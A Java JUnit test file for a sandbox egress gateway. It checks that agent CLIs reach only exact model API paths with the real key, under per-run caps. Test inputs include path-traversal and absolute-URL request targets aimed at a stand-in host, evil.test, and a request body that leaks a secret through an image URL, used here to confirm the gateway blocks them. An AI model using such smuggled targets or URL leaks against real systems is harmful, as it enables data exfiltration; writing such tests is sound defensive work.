package dev.autopilot.runner.sandbox;

import static dev.autopilot.runner.sandbox.GatewayHarness.request;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.autopilot.runner.agent.AdapterModels;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The model gateway: only the exact requests a CLI needs, with bodies that stay in the sandbox. */
class EgressGatewayTest {

  private GatewayHarness h;

  @BeforeEach
  void start() throws Exception {
    h = new GatewayHarness(Map.of("autopilot.gateway.max-body-mib", "1"));
  }

  @AfterEach
  void stop() {
    h.close();
  }

  private static String post(String target, String key, String body) {
    return request("POST", target, key, "", body);
  }

  @Test
  void aModelRequestWithThePlaceholderReachesTheModelWithTheRealKeyAndNothingElseDoes()
      throws Exception {
    try (EgressGateway.Registration grant = h.grant(AdapterModels.claude(), 3)) {
      String placeholder = grant.placeholders().get("ANTHROPIC_API_KEY");
      assertTrue(placeholder.startsWith("autopilot-run-"));
      assertEquals(200, h.status(post("/v1/messages?beta=true", placeholder, "{}")));
      assertEquals(List.of("POST /v1/messages?beta=true key=sk-real"), h.upstreamSaw);

      assertEquals(403, h.status(post("/v1/files", placeholder, "{}")), "another API path");
      assertEquals(403, h.status(post("//evil.test/v1/messages", placeholder, "{}")));
      assertEquals(403, h.status(post("/v1/messages/../files", placeholder, "{}")));
      assertEquals(403, h.status(post("http://evil.test/v1/messages", placeholder, "{}")));
      assertEquals(401, h.status(post("/v1/messages", "sk-guess", "{}")), "no live placeholder");
      assertEquals(1, h.upstreamSaw.size(), "only the first request reached the model");
      assertEquals(200, h.status(post("/v1/messages", placeholder, "{}")));
      assertEquals(200, h.status(post("/v1/messages", placeholder, "{}")));
      assertEquals(429, h.status(post("/v1/messages", placeholder, "{}")), "past the run's cap");
      assertEquals(3, h.upstreamSaw.size());
    }
    assertEquals(401, h.status(post("/v1/messages", "autopilot-run-" + "0".repeat(40), "{}")));
  }

  @Test
  void onlyTheExactMethodsAndPathsOfEachCliAreSentWithTheKey() throws Exception {
    try (EgressGateway.Registration claude = h.grant(AdapterModels.claude(), 100);
        EgressGateway.Registration codex = h.grant(AdapterModels.codex(), 100)) {
      String c = claude.placeholders().get("ANTHROPIC_API_KEY");
      String o = codex.placeholders().get("ANTHROPIC_API_KEY");
      // Batches hold 100,000 requests past every cap and list the whole workspace's batches.
      assertEquals(403, h.status(post("/v1/messages/batches", c, "{\"requests\":[]}")));
      assertEquals(403, h.status(request("GET", "/v1/messages/batches", c, "", "")));
      assertEquals(403, h.status(post("/v1/messages/batches/msgbatch_1/cancel", c, "{}")));
      assertEquals(403, h.status(request("GET", "/v1/messages", c, "", "")), "method");
      assertEquals(403, h.status(post("/v1/messages?beta=true&x=1", c, "{}")), "query");
      assertEquals(403, h.status(post("/v1/messages/", c, "{}")), "trailing slash");
      assertEquals(200, h.status(post("/v1/messages/count_tokens?beta=true", c, "{}")));
      assertEquals(200, h.status(request("HEAD", "/", c, "", "")), "the CLI's probe");
      // Codex's stored responses: read, cancel, delete and list their inputs.
      assertEquals(403, h.status(request("GET", "/responses/resp_1", o, "", "")));
      assertEquals(403, h.status(request("DELETE", "/responses/resp_1", o, "", "")));
      assertEquals(403, h.status(post("/responses/resp_1/cancel", o, "{}")));
      assertEquals(403, h.status(request("GET", "/responses/resp_1/input_items", o, "", "")));
      assertEquals(403, h.status(post("/chat/completions", o, "{}")));
      assertEquals(200, h.status(post("/responses", o, "{}")));
      assertEquals(200, h.status(request("GET", "/models?client_version=0.169.0", o, "", "")));
      assertEquals(
          List.of(
              "POST /v1/messages/count_tokens?beta=true key=sk-real",
              "HEAD / key=sk-real",
              "POST /responses key=sk-real",
              "GET /models?client_version=0.169.0 key=sk-real"),
          h.upstreamSaw);
    }
  }

  @Test
  void providerSideToolsUrlSourcesAndUnlistedBetasNeverReachTheProvider() throws Exception {
    try (EgressGateway.Registration claude = h.grant(AdapterModels.claude(), 100);
        EgressGateway.Registration codex = h.grant(AdapterModels.codex(), 100)) {
      String c = claude.placeholders().get("ANTHROPIC_API_KEY");
      String o = codex.placeholders().get("ANTHROPIC_API_KEY");
      for (String body :
          List.of(
              "{\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
              "{\"tools\":[{\"type\":\"web_search_20250305\",\"name\":\"web_search\"}]}",
              "{\"tools\":[{\"type\":\"code_execution_20250825\",\"name\":\"code_execution\"}]}",
              "{\"tools\":[{\"name\":\"Bash\"},{\"type\":\"mcp_toolset\",\"mcp_server_name\":\"x\"}]}",
              "{\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://evil.test/sse\",\"name\":\"x\"}]}",
              "{\"container\":\"container_1\"}",
              "{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\","
                  + "\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"url\","
                  + "\"url\":\"https://evil.test/?secret=1\"}}]}]}]}",
              "not json",
              "[1,2]")) {
        assertEquals(403, h.status(post("/v1/messages", c, body)), body);
      }
      assertEquals(
          403,
          h.status(
              request(
                  "POST", "/v1/messages", c, "anthropic-beta: mcp-client-2025-04-04\r\n", "{}")));
      assertEquals(
          403,
          h.status(
              request(
                  "POST",
                  "/v1/messages",
                  c,
                  "anthropic-beta: claude-code-20250219, files-api-2025-04-14\r\n",
                  "{}")));
      for (String body :
          List.of(
              "{\"tools\":[{\"type\":\"web_search\"}]}",
              "{\"tools\":[{\"type\":\"mcp\",\"server_url\":\"https://evil.test\"}]}",
              "{\"tools\":[{\"type\":\"code_interpreter\"}]}",
              "{\"background\":true}",
              "{\"input\":[{\"role\":\"user\",\"content\":[{\"type\":\"input_image\","
                  + "\"image_url\":\"https://evil.test/x.png\"}]}]}")) {
        assertEquals(403, h.status(post("/responses", o, body)), body);
      }
      assertEquals(0, h.upstreamSaw.size(), String.valueOf(h.upstreamSaw));

      String tooBig = "{\"x\":\"" + "a".repeat(1024 * 1024) + "\"}";
      assertEquals(413, h.status(post("/v1/messages", c, tooBig)));
      assertEquals(
          200,
          h.status(
              request(
                  "POST",
                  "/v1/messages?beta=true",
                  c,
                  "anthropic-beta: claude-code-20250219,context-1m-2025-08-07\r\n",
                  "{\"model\":\"claude-sonnet-4-5\",\"stream\":true,\"tools\":[{\"name\":\"Bash\","
                      + "\"input_schema\":{}}],\"messages\":[{\"role\":\"user\",\"content\":[{"
                      + "\"type\":\"image\",\"source\":{\"type\":\"base64\",\"data\":\"AA==\"}}]}]}")));
      assertEquals(
          200,
          h.status(
              post("/responses", o, "{\"tools\":[{\"type\":\"function\",\"name\":\"shell\"}]}")));
      assertEquals(2, h.upstreamSaw.size());
    }
  }
}
